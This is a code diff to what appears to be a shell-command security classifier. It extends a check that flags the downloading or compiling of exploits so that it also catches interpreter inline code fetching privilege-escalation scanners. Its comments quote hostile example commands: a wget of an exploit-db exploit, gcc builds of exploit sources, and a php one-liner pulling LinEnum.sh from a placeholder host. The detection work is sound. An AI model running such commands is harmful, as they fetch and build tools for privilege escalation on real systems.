@@ -1394,6 +1394,10 @@ def _url_file(url: str) -> str:
     return url.split("?", 1)[0].split("#", 1)[0].rstrip("/").rpartition("/")[2]
 
 
+_CODE_URL = lazy_compile(r"(?:https?|ftp)://[^\s\"'`)]{1,400}")
+"""A URL in an interpreter's inline code."""
+
+
 def _exploit_fetch_or_build(invocation: Invocation) -> Verdict | None:
     """``wget https://www.exploit-db.com/exploits/37292.c -O ofs.c``, ``gcc exploit.c -o exploit``,
     ``gcc full-nelson.c -o /tmp/fn``: an exploit downloaded from an exploit archive, or a source or
@@ -1414,6 +1418,14 @@ def _exploit_fetch_or_build(invocation: Invocation) -> Verdict | None:
         if named is not None:
             why = f"downloads {named.rpartition('/')[2]}, a privilege-escalation scanner"
             return _verdict(PRIVILEGE, invocation, why)
+    code = inline_code(invocation) if INTERPRETERS.match(name) else None
+    fetched_in_code = next(
+        (u for u in _CODE_URL.findall(code or "") if _scanner(_url_file(u), fetched=True)), None
+    )
+    if fetched_in_code is not None:
+        # php -r "file_put_contents('x.sh', file_get_contents('http://IP/LinEnum.sh'));": curl's job in code
+        why = f"{name}'s code downloads {_url_file(fetched_in_code)}, a privilege-escalation scanner"
+        return _verdict(PRIVILEGE, invocation, why)
     if name == "searchsploit" and (
         {"-m", "--mirror"} & set(values)
         or any(v.startswith("-") and not v.startswith("--") and "m" in v for v in values)
